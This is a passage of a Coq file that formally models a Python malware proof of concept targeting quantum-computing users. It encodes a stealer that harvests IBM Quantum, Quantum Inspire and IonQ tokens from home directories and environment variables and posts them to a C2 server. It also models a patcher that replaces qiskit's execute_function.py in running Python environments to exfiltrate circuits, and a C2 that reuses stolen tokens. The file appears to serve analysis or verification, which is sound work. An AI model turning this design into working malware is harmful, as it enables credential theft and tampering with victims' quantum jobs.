(** * Shallow embedding of the quantum-daemon proof of concept

    The development follows the Python sources:
    - [modules/patcher.py]       (module [patcher]),
    - [modules/token_stealer.py] (module [token_stealer]),
    - [modules/communication.py] ([send] in module [host]),
    - [quantum_daemon.py]        (module [quantum_daemon]),
    - [quantum_c2.py]            (module [quantum_c2]).

    Python code is embedded in a state-and-exception monad.  The file
    system is a finite map from path strings to nodes, regular files and
    directories without links; [os.path] is the POSIX flavour, console
    output is not recorded. *)

From Stdlib Require Import Ascii.
From stdpp Require Import gmap strings list.

(** * Python runtime: exceptions, results, the monad *)

Module Py.

(** The exception classes the modelled code can meet. *)
Inductive exn : Type :=
| KeyboardInterrupt
| KeyError
| TypeError
| ValueError
| IndexError
| UnicodeDecodeError
| JSONDecodeError
| FileNotFoundError
| NotADirectoryError
| IsADirectoryError
| SameFileError
| PermissionError
| NoSuchProcess.

Global Instance exn_eq_dec : EqDecision exn.
Proof. solve_decision. Defined.

(** [except Exception]: everything but [KeyboardInterrupt], which
    derives from [BaseException] only. *)
Definition is_Exception (e : exn) : bool :=
  match e with
  | KeyboardInterrupt => false
  | _ => true
  end.

(** [except OSError]. [shutil.SameFileError] derives from [OSError],
    [psutil.NoSuchProcess] does not. *)
Definition is_OSError (e : exn) : bool :=
  match e with
  | FileNotFoundError | NotADirectoryError | IsADirectoryError
  | SameFileError | PermissionError => true
  | _ => false
  end.

Definition is_KeyboardInterrupt (e : exn) : bool :=
  match e with
  | KeyboardInterrupt => true
  | _ => false
  end.

(** Outcome of running a piece of code: it returns, it raises, or it
    never comes back ([Hang], an unbounded [while]). *)
Inductive res (A : Type) : Type :=
| Ret (a : A)
| Raise (e : exn)
| Hang.
Global Arguments Ret {A} a.
Global Arguments Raise {A} e.
Global Arguments Hang {A}.

Definition M (St A : Type) : Type := St → res A * St.

Global Instance M_ret {St} : MRet (M St) := λ A a s, (Ret a, s).
Global Instance M_bind {St} : MBind (M St) := λ A B f m s,
  match m s with
  | (Ret a, s') => f a s'
  | (Raise e, s') => (Raise e, s')
  | (Hang, s') => (Hang, s')
  end.

Definition raise {St A} (e : exn) : M St A := λ s, (Raise e, s).
Definition hang {St A} : M St A := λ s, (Hang, s).
Definition get {St} : M St St := λ s, (Ret s, s).
Definition gets {St A} (f : St → A) : M St A := λ s, (Ret (f s), s).
Definition modify {St} (f : St → St) : M St unit := λ s, (Ret (), f s).

(** [try: body / except <class>: handler]. *)
Definition try_except {St A} (body : M St A) (catches : exn → bool)
    (handler : exn → M St A) : M St A := λ s,
  match body s with
  | (Raise e, s') => if catches e then handler e s' else (Raise e, s')
  | r => r
  end.

(** [try: body / finally: cleanup].  The cleanup runs whenever the body
    comes back, by return or by exception; an exception of the cleanup
    replaces the pending one. *)
Definition try_finally {St A} (body : M St A) (cleanup : M St unit) : M St A := λ s,
  match body s with
  | (Hang, s') => (Hang, s')
  | (r, s') =>
      match cleanup s' with
      | (Ret _, s'') => (r, s'')
      | (Raise e, s'') => (Raise e, s'')
      | (Hang, s'') => (Hang, s'')
      end
  end.

(** [for x in xs: body x]. *)
Fixpoint for_each {St A} (xs : list A) (body : A → M St unit) : M St unit :=
  match xs with
  | [] => mret ()
  | x :: xs' => body x ;; for_each xs' body
  end.

(** A [for] loop that grows a local list: [body x acc] returns the new
    value of the list. *)
Fixpoint for_acc {St A B} (xs : list A) (acc : B) (body : A → B → M St B) : M St B :=
  match xs with
  | [] => mret acc
  | x :: xs' => acc' ← body x acc; for_acc xs' acc' body
  end.

(** [for _ in range(n): body]. *)
Fixpoint repeat_n {St} (n : nat) (body : M St unit) : M St unit :=
  match n with
  | O => mret ()
  | S n' => body ;; repeat_n n' body
  end.

End Py.
Import Py.

(** * [posixpath] *)

Module posixpath.

Definition sep : ascii := "/"%char.

Definition startswith_sep (s : string) : bool :=
  match s with
  | String c _ => bool_decide (c = sep)
  | EmptyString => false
  end.

Fixpoint endswith_sep (s : string) : bool :=
  match s with
  | EmptyString => false
  | String c EmptyString => bool_decide (c = sep)
  | String _ r => endswith_sep r
  end.

(** [os.path.join(a, b)]. *)
Definition join (a b : string) : string :=
  if startswith_sep b then b
  else if bool_decide (a = "") || endswith_sep a then a +:+ b
  else a +:+ "/" +:+ b.

Definition join3 (a b c : string) : string := join (join a b) c.
Definition join4 (a b c d : string) : string := join (join (join a b) c) d.

(** [p.rfind('/') + 1] splits [p] in [(head, tail)]: [head] runs up to
    and including the last separator. *)
Fixpoint split_at_last_sep (p : string) : string * string :=
  match p with
  | EmptyString => ("", "")
  | String c r =>
      let '(h, t) := split_at_last_sep r in
      if bool_decide (h = "") then
        if bool_decide (c = sep) then (String c "", r) else ("", String c r)
      else (String c h, t)
  end.

(** [head.rstrip('/')]. *)
Fixpoint rstrip_sep (s : string) : string :=
  match s with
  | EmptyString => ""
  | String c r =>
      match rstrip_sep r with
      | EmptyString => if bool_decide (c = sep) then "" else String c ""
      | r' => String c r'
      end
  end.

(** [os.path.dirname(p)]: the head, without its trailing separators
    unless it consists of separators only. *)
Definition dirname (p : string) : string :=
  let head := (split_at_last_sep p).1 in
  if bool_decide (rstrip_sep head = "") then head else rstrip_sep head.

(** [os.path.basename(p)]. *)
Definition basename (p : string) : string := (split_at_last_sep p).2.

End posixpath.

(** * The file system and the [os] / [shutil] calls the daemon makes *)

Module os.
Import posixpath.

Inductive node : Type :=
| File (content : string)
| Dir.

Global Instance node_eq_dec : EqDecision node.
Proof. solve_decision. Defined.

Definition exists_ (fs : gmap string node) (p : string) : bool :=
  bool_decide (is_Some (fs !! p)).

Definition isfile (fs : gmap string node) (p : string) : bool :=
  match fs !! p with
  | Some (File _) => true
  | _ => false
  end.

Definition isdir (fs : gmap string node) (p : string) : bool :=
  match fs !! p with
  | Some Dir => true
  | _ => false
  end.

(** [os.unlink(p)]. *)
Definition unlink (p : string) : M (gmap string node) unit := λ fs,
  match fs !! p with
  | Some (File _) => (Ret (), delete p fs)
  | Some Dir => (Raise IsADirectoryError, fs)
  | None => (Raise FileNotFoundError, fs)
  end.

(** [os.rename(src, dst)] for a regular file [src]: a file at [dst] is
    replaced, a directory at [dst] is an error.  Both call sites in the
    patcher are guarded by [os.path.isfile(src)]; renaming a directory
    is not part of this model and is reported as an error. *)
Definition rename (src dst : string) : M (gmap string node) unit := λ fs,
  match fs !! src with
  | None => (Raise FileNotFoundError, fs)
  | Some Dir => (Raise NotADirectoryError, fs)
  | Some (File c) =>
      match fs !! dst with
      | Some Dir => (Raise IsADirectoryError, fs)
      | _ => (Ret (), <[dst := File c]> (delete src fs))
      end
  end.

(** [shutil.copy(src, dst)]. *)
Definition copy (src dst : string) : M (gmap string node) unit := λ fs,
  let dst' := if isdir fs dst then join dst (basename src) else dst in
  match fs !! src with
  | None => (Raise FileNotFoundError, fs)
  | Some Dir => (Raise IsADirectoryError, fs)
  | Some (File c) =>
      if bool_decide (src = dst') then (Raise SameFileError, fs)
      else match fs !! dst' with
           | Some Dir => (Raise IsADirectoryError, fs)
           | _ => (Ret (), <[dst' := File c]> fs)
           end
  end.

(** Names directly below directory [p]: the keys [join p d] with a
    non-empty, separator-free [d]. *)
Fixpoint strip_prefix (pre s : string) : option string :=
  match pre, s with
  | EmptyString, _ => Some s
  | String a pre', String b s' =>
      if bool_decide (a = b) then strip_prefix pre' s' else None
  | String _ _, EmptyString => None
  end.

Fixpoint contains_sep (s : string) : bool :=
  match s with
  | EmptyString => false
  | String c r => bool_decide (c = sep) || contains_sep r
  end.

Definition child_name (p k : string) : option string :=
  match strip_prefix (join p "") k with
  | Some d => if bool_decide (d = "") || contains_sep d then None else Some d
  | None => None
  end.

(** [os.listdir(p)], in the order in which the map stores its keys. *)
Definition listdir (p : string) : M (gmap string node) (list string) := λ fs,
  match fs !! p with
  | Some Dir => (Ret (omap (child_name p) (map fst (map_to_list fs))), fs)
  | Some (File _) => (Raise NotADirectoryError, fs)
  | None => (Raise FileNotFoundError, fs)
  end.

End os.

(** * JSON values, as [json.load] / [json.loads] return them *)

Module json.

#[warnings="-register-all"]
Inductive value : Type :=
| JNull
| JBool (b : bool)
| JNum (n : Z)              (* an int *)
| JFloat (repr : string)    (* a float, by its repr *)
| JStr (s : string)
| JArr (items : list value)
| JObj (members : list (string * value)).

(** [d[key]] on a [dict]: the first binding of [key]. *)
Fixpoint assoc (key : string) (members : list (string * value)) : option value :=
  match members with
  | [] => None
  | (k, v) :: rest => if bool_decide (k = key) then Some v else assoc key rest
  end.

(** [operator.getitem(obj, key)] for a string [key]: a [dict] is looked
    up ([KeyError] when the key is absent); lists and strings take
    integer indices only and the other values are not subscriptable
    ([TypeError]). *)
Definition getitem (obj : value) (key : string) : exn + value :=
  match obj with
  | JObj members =>
      match assoc key members with
      | Some v => inr v
      | None => inl KeyError
      end
  | _ => inl TypeError
  end.

(** [functools.reduce(operator.getitem, keys, data)]. *)
Fixpoint reduce_getitem (keys : list string) (data : value) : exn + value :=
  match keys with
  | [] => inr data
  | k :: keys' =>
      match getitem data k with
      | inr v => reduce_getitem keys' v
      | inl e => inl e
      end
  end.

End json.
Import json.

(** * [str] methods used by the sources *)

Module str.

(** [c.lower()] on the ASCII letters. *)
Definition ascii_lower (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if bool_decide (65 ≤ n ≤ 90) then ascii_of_nat (n + 32) else c.

Fixpoint lower (s : string) : string :=
  match s with
  | EmptyString => ""
  | String c r => String (ascii_lower c) (lower r)
  end.

(** [s.startswith(pre)]. *)
Definition startswith (s pre : string) : bool := String.prefix pre s.

(** [needle in hay]. *)
Fixpoint contains (hay needle : string) : bool :=
  String.prefix needle hay ||
  match hay with
  | EmptyString => false
  | String _ r => contains r needle
  end.

(** [s[n:]]. *)
Fixpoint slice_from (n : nat) (s : string) : string :=
  match n, s with
  | O, _ => s
  | S n', String _ r => slice_from n' r
  | S _, EmptyString => ""
  end.

(** [s[:n]]. *)
Fixpoint slice_to (n : nat) (s : string) : string :=
  match n, s with
  | O, _ => ""
  | S n', String c r => String c (slice_to n' r)
  | S _, EmptyString => ""
  end.

(** [s.split(c)] for a one-character separator. *)
Fixpoint split (c : ascii) (s : string) : list string :=
  match s with
  | EmptyString => [""]
  | String a r =>
      if bool_decide (a = c) then "" :: split c r
      else match split c r with
           | w :: ws => String a w :: ws
           | [] => [String a ""]
           end
  end.

End str.

(** * What the standard library does with raw bytes

    Text decoding, JSON parsing and [int()] are parameters of the
    development: [None] stands for the exception the library raises. *)

Class Codec : Type := {
  utf8_decode : string → option string;   (* bytes.decode("utf-8"), open(.., encoding="utf8") *)
  json_load : string → option value;      (* json.load on a file opened in text mode *)
  json_loads : string → option value;     (* json.loads *)
  int_of_str : string → option Z;         (* int(s) *)
}.

(** * The machine the daemon runs on *)

Module host.
Import posixpath os.

(** What [open("/proc/<pid>/environ", "r")] followed by [f.read()] comes
    to. *)
Inductive environ_file : Type :=
| Unopenable             (* an OSError: the process is gone, or is not ours *)
| Undecodable            (* UnicodeDecodeError: the bytes are no text *)
| Text (block : string). (* the text that was read *)

(** One running process as [psutil] and [/proc] show it. *)
Record process : Type := Process {
  pid : nat;
  name : string;
  proc_environ : environ_file;    (* /proc/<pid>/environ, read in text mode *)
  cmdline : option (list string); (* psutil cmdline(); [None]: the process is gone *)
}.

Record world : Type := World {
  fs : gmap string node;          (* the file system *)
  cwd : string;                   (* os.getcwd() *)
  environ : gmap string string;   (* os.environ *)
  platform_system : string;       (* platform.system() *)
  ps : list (list process);       (* the coming answers of psutil.process_iter() *)
  sigint : option nat;            (* Ctrl-C arrives in the n-th coming time.sleep *)
  sent : list (string * value);   (* requests posted through C2Communication.send *)
  _m_data : list string;          (* PythonPackagePatcher._m_data *)
}.

Definition set_fs (f : gmap string node) (w : world) : world :=
  World f (cwd w) (environ w) (platform_system w) (ps w) (sigint w) (sent w) (_m_data w).
Definition set_ps (l : list (list process)) (w : world) : world :=
  World (fs w) (cwd w) (environ w) (platform_system w) l (sigint w) (sent w) (_m_data w).
Definition set_sigint (n : option nat) (w : world) : world :=
  World (fs w) (cwd w) (environ w) (platform_system w) (ps w) n (sent w) (_m_data w).
Definition set_sent (l : list (string * value)) (w : world) : world :=
  World (fs w) (cwd w) (environ w) (platform_system w) (ps w) (sigint w) l (_m_data w).
Definition set_m_data (l : list string) (w : world) : world :=
  World (fs w) (cwd w) (environ w) (platform_system w) (ps w) (sigint w) (sent w) l.

(** Run a file-system call in the world. *)
Definition on_fs {A} (m : M (gmap string node) A) : M world A := λ w,
  let '(r, f) := m (fs w) in (r, set_fs f w).

Definition path_exists (p : string) : M world bool := gets (λ w, exists_ (fs w) p).
Definition path_isfile (p : string) : M world bool := gets (λ w, isfile (fs w) p).
Definition path_isdir (p : string) : M world bool := gets (λ w, isdir (fs w) p).
Definition getcwd : M world string := gets cwd.

(** [with open(p, "r", encoding="utf8") as f: f.read()]. *)
Definition read_text `{Codec} (p : string) : M world string := λ w,
  match fs w !! p with
  | None => (Raise FileNotFoundError, w)
  | Some Dir => (Raise IsADirectoryError, w)
  | Some (File bytes) =>
      match utf8_decode bytes with
      | Some text => (Ret text, w)
      | None => (Raise UnicodeDecodeError, w)
      end
  end.

(** [with open(p, "r") as f: json.load(f)]. *)
Definition read_json `{Codec} (p : string) : M world value := λ w,
  match fs w !! p with
  | None => (Raise FileNotFoundError, w)
  | Some Dir => (Raise IsADirectoryError, w)
  | Some (File bytes) =>
      match json_load bytes with
      | Some data => (Ret data, w)
      | None => (Raise JSONDecodeError, w)
      end
  end.

(** [psutil.process_iter()]: the next snapshot of the process table. *)
Definition process_iter : M world (list process) := λ w,
  match ps w with
  | [] => (Ret [], w)
  | table :: later => (Ret table, set_ps later w)
  end.

(** [time.sleep(1)]: the place where the daemon waits, and where a
    pending Ctrl-C is delivered. *)
Definition sleep : M world unit := λ w,
  match sigint w with
  | None => (Ret (), w)
  | Some O => (Raise KeyboardInterrupt, set_sigint None w)
  | Some (S n) => (Ret (), set_sigint (Some n) w)
  end.

(** [C2Communication.send(api, data)]: one POST on the open connection.
    The connection was checked when the object was built; the model
    takes every POST as answered. *)
Definition send (api : string) (data : value) : M world unit :=
  modify (λ w, set_sent (sent w ++ [(api, data)]) w).

End host.
Import host.

(** * [modules/patcher.py] *)

Module patcher.
Import posixpath os.

(** [PythonPackagePatcher._running_processes]: the processes with
    "python" in their lower-cased name.  The model hands the process
    records on where the source hands their pids. *)
Definition _running_processes : M world (list process) :=
  table ← process_iter;
  mret (filter (λ p, str.contains (str.lower (name p)) "python" = true) table).

(** The [while] loop of [_site_package]:
    [while not os.path.exists(os.path.join(path, "lib")): path = os.path.dirname(path)].
    [fuel] bounds the number of tests; running out of it is [Hang]. *)
Fixpoint climb_to_lib (fuel : nat) (path : string) : M world string :=
  match fuel with
  | O => hang
  | S fuel' =>
      found ← path_exists (join path "lib");
      if negb found then climb_to_lib fuel' (dirname path) else mret path
  end.

(** [PythonPackagePatcher._site_package].  [dirname] shortens a path
    until it reaches a fixed point, so one test more than the path has
    characters decides the loop (lemma [climb_fuel_enough]). *)
Definition _site_package (path : string) : M world (list string) :=
  path ← climb_to_lib (S (String.length path)) path;
  let out := [join4 path "lib" "site-packages" "qiskit"] in
  let path := join path "lib" in
  entries ← on_fs (listdir path);
  mret (out ++ map (λ d, join4 path d "site-packages" "qiskit") entries).

(** [PythonPackagePatcher._report_circuits]. *)
Definition _report_circuits `{Codec} (_dir_circuits : string) : M world unit :=
  present ← path_isdir _dir_circuits;
  if negb present then mret () else
  names ← on_fs (listdir _dir_circuits);
  to_remove ← for_acc names [] (λ f_name to_remove,
    let f_path := join _dir_circuits f_name in
    content ← read_text f_path;
    send "/circuit" (JObj [("circuit", JStr content)]) ;;
    mret (to_remove ++ [f_path]));
  for_each to_remove (λ f_path, on_fs (unlink f_path)).

(** [PythonPackagePatcher._patch_qiskit]. *)
Definition _patch_qiskit (qiskit_location : string) (restore : bool) : M world unit :=
  let original_location := join qiskit_location "execute_function.py" in
  let bkp_location := join qiskit_location "execute_function.py.org" in
  d ← getcwd;
  let payload := join d "execute_function.py" in
  (* No qiskit *)
  is_orig ← path_isfile original_location;
  if negb is_orig then mret () else
  (* Already patched - check if we need to restore *)
  is_bkp ← path_isfile bkp_location;
  if (is_bkp : bool) then
    if restore then
      on_fs (unlink original_location) ;;
      on_fs (rename bkp_location original_location)
    else mret ()
  else
    try_except
      (on_fs (rename original_location bkp_location) ;;
       on_fs (copy payload original_location))
      is_Exception
      (λ _, mret ()).

(** [PythonPackagePatcher._add_patch]. *)
Definition _add_patch (path : string) : M world unit :=
  data ← gets _m_data;
  if bool_decide (path ∈ data) then mret () else
  modify (λ w, set_m_data (_m_data w ++ [path]) w) ;;
  paths ← _site_package path;
  for_each paths (λ p, _patch_qiskit p false).

(** [list.remove(x)]: drops the first occurrence. *)
Fixpoint list_remove (x : string) (l : list string) : list string :=
  match l with
  | [] => []
  | y :: l' => if bool_decide (y = x) then l' else y :: list_remove x l'
  end.

(** [PythonPackagePatcher._remove_patch]. *)
Definition _remove_patch (path : string) : M world unit :=
  data ← gets _m_data;
  if negb (bool_decide (path ∈ data)) then mret () else
  modify (λ w, set_m_data (list_remove path (_m_data w)) w) ;;
  paths ← _site_package path;
  for_each paths (λ p, _patch_qiskit p true).

(** [PythonPackagePatcher.restore_state]: the loop runs over a copy of
    [_m_data] taken on entry. *)
Definition restore_state : M world unit :=
  data ← gets _m_data;
  for_each data _remove_patch.

(** [class LinuxPatcher(PythonPackagePatcher)]. *)
Module LinuxPatcher.

(** The inner loop of [_processes_data] over the entries of one
    environment block; the [VIRTUAL_ENV] branch ends it ([break]). *)
Fixpoint scan_environ (entries : list string) : M world unit :=
  match entries with
  | [] => mret ()
  | e :: rest =>
      if str.startswith e "VIRTUAL_ENV" then
        _add_patch (str.slice_from (String.length "VIRTUAL_ENV=") e)
      else if str.startswith e "PATH=" then
        let var := hd "" (str.split ":" (str.slice_from (String.length "PATH=") e)) in
        _add_patch (dirname var) ;;
        scan_environ rest
      else scan_environ rest
  end.

(** [LinuxPatcher._processes_data]: [open] fails with an [OSError] when
    the process is gone or belongs to somebody else, [f.read()] with
    [UnicodeDecodeError] when the block is no text; the handler takes
    the first only. *)
Definition _processes_data (running_processes : list process) : M world unit :=
  for_each running_processes (λ p,
    try_except
      (match proc_environ p with
       | Unopenable => raise FileNotFoundError
       | Undecodable => raise UnicodeDecodeError
       | Text block => scan_environ (str.split "000" block)
       end)
      is_OSError
      (λ _, mret ())).

End LinuxPatcher.

(** [class WindowsPatcher(PythonPackagePatcher)]. *)
Module WindowsPatcher.

(** [WindowsPatcher._processes_data]. *)
Definition _processes_data (running_processes : list process) : M world unit :=
  for_each running_processes (λ p,
    match cmdline p with
    | None => raise NoSuchProcess
    | Some [] => raise IndexError
    | Some (python_path :: _) => _add_patch python_path
    end).

End WindowsPatcher.

(** The two subclasses the daemon instantiates. *)
Inductive subclass : Type := Linux | Windows.

(** The call [self._processes_data(..)], resolved by the class of [self]. *)
Definition _processes_data (self : subclass) : list process → M world unit :=
  match self with
  | Linux => LinuxPatcher._processes_data
  | Windows => WindowsPatcher._processes_data
  end.

(** [PythonPackagePatcher.run]; [time.sleep(1)] is [sleep]. *)
Definition run `{Codec} (self : subclass) (_dir_circuits : string) : M world unit :=
  repeat_n 180
    (running_processes ← _running_processes;
     _processes_data self running_processes ;;
     _report_circuits _dir_circuits ;;
     sleep).

End patcher.

(** * [modules/token_stealer.py] *)

Module token_stealer.
Import posixpath os.

Record location : Type := Location {
  path : string;
  keys : list string;
}.

(** [TokenStealer._data], in insertion order. *)
Definition _data : list (string * location) :=
  [ ("IBM", Location (join ".qiskit" "qiskit-ibm.json") ["default-ibm-quantum"; "token"]);
    ("QI", Location (join ".quantuminspire" "qirc") ["token"]) ].

(** [TokenStealer._env]. *)
Definition _env : list (string * list string) :=
  [ ("IonQ", ["IONQ_API_KEY"; "IONQ_API_TOKEN"; "QISKIT_IONQ_API_TOKEN"]) ].

(** [TokenStealer.__initialize_system]. *)
Definition _d_path (system : string) : string :=
  if bool_decide (system = "Linux") then "/home"
  else if bool_decide (system = "Windows") then "c:\users"
  else "".

Definition token_message (provider : string) (token : value) : string * value :=
  ("/token", JObj [("provider", JStr provider); ("token", token)]).

(** The body of the inner loop of the first phase: one provider's
    configuration file below one user directory. *)
Definition scan_file `{Codec} (d_path user : string) (entry : string * location) : M world unit :=
  let '(key, value) := entry in
  let f_path := join3 d_path user (path value) in
  present ← path_isfile f_path;
  if negb present then mret () else
  data ← read_json f_path;
  match reduce_getitem (keys value) data with
  | inl e => raise e
  | inr token => send "/token" (JObj [("provider", JStr key); ("token", token)])
  end.

(** The first phase of [run]: every user directory, every provider. *)
Definition scan_directories `{Codec} : M world unit :=
  d_path ← gets (λ w, _d_path (platform_system w));
  users ← on_fs (listdir d_path);
  for_each users (λ user, for_each _data (scan_file d_path user)).

(** The body of the inner loop of the second phase: one variable. *)
Definition scan_variable (key tenv : string) : M world unit :=
  token ← gets (λ w, environ w !! tenv);
  match token with
  | Some t =>
      if bool_decide (t = "") then mret ()
      else send "/token" (JObj [("provider", JStr key); ("token", JStr t)])
  | None => mret ()
  end.

(** The second phase of [run]: every provider, every variable. *)
Definition scan_environment : M world unit :=
  for_each _env (λ '(key, value), for_each value (scan_variable key)).

(** [TokenStealer.run]. *)
Definition run `{Codec} : M world unit :=
  scan_directories ;; scan_environment.

End token_stealer.

(** * [quantum_daemon.py] *)

Module quantum_daemon.

(** The [try] / [except KeyboardInterrupt] / [finally] statement at the
    end of the script, around an arbitrary body. *)
Definition guarded (body : M world unit) : M world unit :=
  try_finally
    (try_except body is_KeyboardInterrupt (λ _, mret ()))
    patcher.restore_state.

(** The script from the choice of the patcher on; [backup] is the value
    of [--backup].  On a system that is neither Linux nor Windows the
    script leaves through [exit(-1)] before the [try]. *)
Definition main `{Codec} (backup : string) : M world (option unit) :=
  system ← gets platform_system;
  if bool_decide (system = "Linux") then
    guarded (token_stealer.run ;; patcher.run patcher.Linux backup) ;; mret (Some ())
  else if bool_decide (system = "Windows") then
    guarded (token_stealer.run ;; patcher.run patcher.Windows backup) ;; mret (Some ())
  else mret None.

End quantum_daemon.

(** * [quantum_c2.py] *)

Module quantum_c2.

(** What a request handler does that can be seen from outside: the
    pieces of the HTTP response and the calls of the three
    job-enumeration routines. *)
Inductive event : Type :=
| send_response (code : nat)
| end_headers
| wfile_write (body : string)
| jobs_ibm (token : value)
| jobs_qi (token : value)
| jobs_ionq (token : value).

Record request : Type := Request {
  path : string;
  content_length : option string;   (* headers.get("Content-Length") *)
  rfile : string;                   (* the bytes that follow the headers *)
}.

Definition emit (e : event) : M (list event) unit := modify (λ t, t ++ [e]).

(** [rfile.read(n)] on the bytes that were sent: the first [n] of them,
    everything when [n] is negative.  (The source raises for a length
    below -1 or beyond an index-sized integer, waits for the end of the
    stream at -1 and for more bytes when [n] exceeds what was sent; the
    function is meant for the lengths from 0 to the number of bytes
    sent.) *)
Definition rfile_read (n : Z) (bytes : string) : string :=
  if bool_decide (n < 0)%Z then bytes else str.slice_to (Z.to_nat n) bytes.

(** The three routines talk to the providers' services; the model
    records that they were called and with which token, not what the
    service answers (the source raises when the token is refused). *)
Definition _jobs_ibm (token : value) : M (list event) unit := emit (jobs_ibm token).
Definition _jobs_qi (token : value) : M (list event) unit := emit (jobs_qi token).
Definition _jobs_ionq (token : value) : M (list event) unit := emit (jobs_ionq token).

Definition lift {A} (r : exn + A) : M (list event) A :=
  match r with
  | inl e => raise e
  | inr a => mret a
  end.

(** The subscription [{"IBM": .., "QI": .., "IonQ": ..}[key]]: lists and
    dicts are not hashable, the other keys are looked up. *)
Definition routine_table (key : value) : exn + (value → M (list event) unit) :=
  match key with
  | JStr s =>
      if bool_decide (s = "IBM") then inr _jobs_ibm
      else if bool_decide (s = "QI") then inr _jobs_qi
      else if bool_decide (s = "IonQ") then inr _jobs_ionq
      else inl KeyError
  | JArr _ | JObj _ => inl TypeError
  | JNull | JBool _ | JNum _ | JFloat _ => inl KeyError
  end.

(** [C2Server._jobs]: the callee is evaluated before its argument. *)
Definition _jobs (data : value) : M (list event) unit :=
  provider ← lift (getitem data "provider");
  routine ← lift (routine_table provider);
  token ← lift (getitem data "token");
  routine token.

(** [HttpHandler.do_GET]. *)
Definition do_GET : M (list event) unit :=
  emit (send_response 200) ;;
  emit end_headers ;;
  emit (wfile_write "Hello, world!").

Definition loads `{Codec} (text : string) : M (list event) value :=
  match json_loads text with
  | Some data => mret data
  | None => raise JSONDecodeError
  end.

(** [HttpHandler.do_POST]. *)
Definition do_POST `{Codec} (self : request) : M (list event) unit :=
  content_len ←
    match content_length self with
    | None => raise TypeError
    | Some s => match int_of_str s with
                | Some n => mret n
                | None => raise ValueError
                end
    end;
  post_body ←
    match utf8_decode (rfile_read content_len (rfile self)) with
    | Some text => mret text
    | None => raise UnicodeDecodeError
    end;
  emit (send_response 200) ;;
  emit end_headers ;;
  emit (wfile_write "Ack!") ;;
  if bool_decide (path self = "/token") then
    data ← loads post_body;
    _jobs data
  else if bool_decide (path self = "/circuit") then
    data ← loads post_body;
    circuit ← lift (getitem data "circuit");
    mret ()
  else mret ().

End quantum_c2.

(** * [C2Server._jobs_ibm], the loop inside

    Module [quantum_c2] records only that the routine was called.  Here
    is what it does with the answers of the IBM service.  The service is
    a parameter: [provider.jobs()] is a list of job objects,
    [provider.retrieve_job(id)] gives the circuits of a job; the model
    takes the service as answering every call. *)

Module ibm.

(** The Python values the routine handles in its set: identifiers are
    strings; [job.job_id], written without the call, is the bound method
    of a job object.  A string and a bound method are never equal. *)
Inductive pyobject : Type :=
| py_str (s : string)
| py_bound_method (self : nat) (attribute : string).

Global Instance pyobject_eq_dec : EqDecision pyobject.
Proof. solve_decision. Defined.

(** A job object as [provider.jobs()] lists it: the identity of the
    object and what [job.job_id()] returns. *)
Record job : Type := Job {
  object_id : nat;
  job_id : string;
}.

(** The calls that go out to the service, and the drawings made. *)
Inductive call : Type :=
| provider_jobs (token : value)
| retrieve_job (id : string)
| draw (circuit : string).

Record service : Type := Service {
  jobs : value → list job;          (* IBMProvider(token=token).jobs() *)
  circuits : string → list string;  (* retrieve_job(id).circuits() *)
}.

Definition emit (c : call) : M (list call) unit := modify (λ t, t ++ [c]).

(** [s.add(x)] on a set kept as a list without repetitions. *)
Definition set_add (x : pyobject) (s : list pyobject) : list pyobject :=
  if bool_decide (x ∈ s) then s else x :: s.

(** The [for job in jobs] loop; [queried_jobs] is the set. *)
Fixpoint job_loop (srv : service) (jobs : list job) (queried_jobs : list pyobject)
    : M (list call) unit :=
  match jobs with
  | [] => mret ()
  | job :: rest =>
      if bool_decide (py_str (job_id job) ∈ queried_jobs) then
        job_loop srv rest queried_jobs
      else
        let queried_jobs := set_add (py_bound_method (object_id job) "job_id") queried_jobs in
        emit (retrieve_job (job_id job)) ;;
        for_each (circuits srv (job_id job)) (λ circuit, emit (draw circuit)) ;;
        job_loop srv rest queried_jobs
  end.

(** [C2Server._jobs_ibm]. *)
Definition _jobs_ibm (srv : service) (token : value) : M (list call) unit :=
  emit (provider_jobs token) ;;
  job_loop srv (jobs srv token) [].

End ibm.

(** * [quantum_daemon.py], the replacement file

    The script reads the template [modules/execute_function.py.in],
    substitutes the two directories into it and writes the result as
    [execute_function.py].  The substitution is embedded here; reading
    and writing the two files is not. *)

Module template.

(** [new + c1 + new + c2 + ... + new]: what [s.replace("", new)] gives. *)
Fixpoint intersperse (new s : string) : string :=
  match s with
  | EmptyString => new
  | String c r => new +:+ String c (intersperse new r)
  end.

(** The scan of [s.replace(old, new)] for a non-empty [old]: left to
    right, an occurrence found is replaced and the scan resumes behind
    it; [skip] counts the characters of an occurrence still to pass. *)
Fixpoint replace_from (skip : nat) (old new s : string) : string :=
  match s with
  | EmptyString => ""
  | String c r =>
      match skip with
      | S k => replace_from k old new r
      | O =>
          if String.prefix old s
          then new +:+ replace_from (String.length old - 1) old new r
          else String c (replace_from 0 old new r)
      end
  end.

(** [s.replace(old, new)]. *)
Definition replace (old new s : string) : string :=
  if bool_decide (old = "") then intersperse new s else replace_from 0 old new s.

(** ['r"%s"' % (s)]. *)
Definition raw_literal (s : string) : string :=
  "r" +:+ String "034" "" +:+ s +:+ String "034" "".

(** The two [replace] statements of the script, in their order. *)
Definition instantiate (f_data backup attacker_circuits : string) : string :=
  let f_data := replace "%backup_circuit_dir%" (raw_literal backup) f_data in
  replace "%attacker_circuit_dir%" (raw_literal attacker_circuits) f_data.

End template.

(** * Vocabulary of the statements *)

Import posixpath os patcher.

(** The [k]-th ancestor of a path. *)
Fixpoint ancestor (k : nat) (path : string) : string :=
  match k with
  | O => path
  | S k' => ancestor k' (dirname path)
  end.

(** A call of one of the two methods that edit the record. *)
Inductive call : Type :=
| add_patch (path : string)
| remove_patch (path : string).

Definition perform (c : call) : M world unit :=
  match c with
  | add_patch path => _add_patch path
  | remove_patch path => _remove_patch path
  end.

(** The state after a sequence of calls, whatever the outcome of each of
    them (a caller may catch an exception and go on). *)
Definition after (calls : list call) (w : world) : world :=
  foldl (λ w c, (perform c w).2) w calls.

Definition preserves {A} (P : world → Prop) (m : M world A) : Prop :=
  ∀ w, P w → P (m w).2.

(** Properties of the record of patched roots alone. *)
Definition on_m_data (Q : list string → Prop) : world → Prop := λ w, Q (_m_data w).


(** What [restore_state] makes of the outcome [r] of the [try] body (a
    caught [KeyboardInterrupt] counts as a return). *)
Definition after_cleanup (r : res ()) (cleanup : res () * world) : res () * world :=
  match cleanup with
  | (Ret _, w2) => (if r is Raise KeyboardInterrupt then Ret () else r, w2)
  | (Raise e, w2) => (Raise e, w2)
  | (Hang, w2) => (Hang, w2)
  end.

Definition circuit_message (content : string) : string * value :=
